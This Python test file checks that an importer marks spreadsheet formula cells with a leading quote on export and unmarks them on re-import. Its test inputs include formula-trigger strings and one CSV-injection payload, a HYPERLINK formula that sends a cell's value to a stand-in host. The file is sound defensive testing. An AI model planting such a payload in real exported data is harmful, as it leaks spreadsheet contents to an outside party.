"""What a spreadsheet would run is marked in files for people, and unmarked when it comes back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.importer.core.formulas import neutralised, restored

NASTY = st.text("=+-@\t\r\n '\"\u00a0\uff1d\uff0b\uff0d\uff20a1", max_size=8)


@pytest.mark.parametrize(
    "cell",
    [
        *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1", "\r=1+1", '=HYPERLINK("http://x/?"&A1)'),
        *(" =1+1", '"=1+1" quoted', "'=1+1", "\u00a0=1", "\n=1", "\" '=1"),
        *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "=", "-"),
    ],
)
def test_a_formula_is_marked_and_comes_back_as_it_was(cell: str) -> None:
    assert neutralised(cell) == f"'{cell}"
    assert restored(neutralised(cell)) == cell


@pytest.mark.parametrize("cell", ["", " ", "'", "Acme", "1-1", "a=b", ";=1+1", "'t Hoekje", "x@y.fr", "0", "(1)"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert neutralised(cell) == cell
    assert restored(cell) == cell


@given(cell=NASTY | st.text(max_size=8))
def test_no_cell_that_is_written_begins_as_a_formula_and_every_one_comes_back(cell: str) -> None:
    written = neutralised(cell)

    assert written.lstrip(' \u00a0"\n')[:1] not in set("=+-@\t\r\uff1d\uff0b\uff0d\uff20") or not written
    assert restored(written) == cell


@given(cell=NASTY)
def test_a_cell_that_was_marked_twice_loses_one_mark_at_a_time(cell: str) -> None:
    twice = neutralised(neutralised(cell))

    assert restored(restored(twice)) == cell
